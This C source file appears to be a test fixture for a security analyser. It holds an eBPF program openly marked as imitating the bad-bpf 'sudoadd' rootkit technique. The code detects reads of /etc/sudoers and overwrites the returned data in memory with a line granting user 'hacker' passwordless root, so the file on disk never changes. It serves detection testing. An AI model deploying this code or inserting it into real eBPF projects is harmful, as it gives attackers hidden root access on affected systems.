// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, imitates bad-bpf's sudoadd: when a process opens
 * /etc/sudoers, the data it reads back is overwritten in its own memory with a
 * line granting a user root, so sudo trusts an attacker without the file
 * changing on disk.
 *
 * Shapes an analyser must recover as strings:
 *  - handle_openat_enter compares the opened path byte by byte against
 *    "/etc/sudoers" (one load-byte + jump-if-not-equal per character);
 *  - handle_read_exit builds the injected line on the stack from immediates
 *    and writes it with bpf_probe_write_user.
 * handle_openat_enter and handle_read_enter load on any kernel; handle_read_exit
 * does not load where bpf_probe_write_user is unavailable (lockdown).
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define NAME_LEN 16

/* tgid -> 1 once it opened /etc/sudoers; then -> the buffer it reads into. */
struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 1024);
	__type(key, u32);
	__type(value, u64);
} sudoers_readers SEC(".maps");

SEC("tracepoint/syscalls/sys_enter_openat")
int handle_openat_enter(struct trace_event_raw_sys_enter *ctx)
{
	u32 tgid = bpf_get_current_pid_tgid() >> 32;
	char name[NAME_LEN] = {};
	u64 opened = 1;

	bpf_probe_read_user(name, sizeof(name), (const char *)ctx->args[1]);
	if (name[0] != '/' || name[1] != 'e' || name[2] != 't' || name[3] != 'c' ||
	    name[4] != '/' || name[5] != 's' || name[6] != 'u' || name[7] != 'd' ||
	    name[8] != 'o' || name[9] != 'e' || name[10] != 'r' || name[11] != 's' ||
	    name[12] != 0)
		return 0;
	bpf_map_update_elem(&sudoers_readers, &tgid, &opened, BPF_ANY);
	return 0;
}

SEC("tracepoint/syscalls/sys_enter_read")
int handle_read_enter(struct trace_event_raw_sys_enter *ctx)
{
	u32 tgid = bpf_get_current_pid_tgid() >> 32;
	u64 *state = bpf_map_lookup_elem(&sudoers_readers, &tgid);

	if (state && *state == 1)
		*state = ctx->args[1];
	return 0;
}

SEC("tracepoint/syscalls/sys_exit_read")
int handle_read_exit(struct trace_event_raw_sys_exit *ctx)
{
	u32 tgid = bpf_get_current_pid_tgid() >> 32;
	u64 *state = bpf_map_lookup_elem(&sudoers_readers, &tgid);
	char line[] = "hacker ALL=(ALL:ALL) NOPASSWD:ALL #";
	void *buf;

	if (!state || *state <= 1 || ctx->ret < (long)sizeof(line))
		return 0;
	buf = (void *)*state;
	bpf_probe_write_user(buf, (const void *)line, sizeof(line));
	bpf_map_delete_elem(&sudoers_readers, &tgid);
	return 0;
}
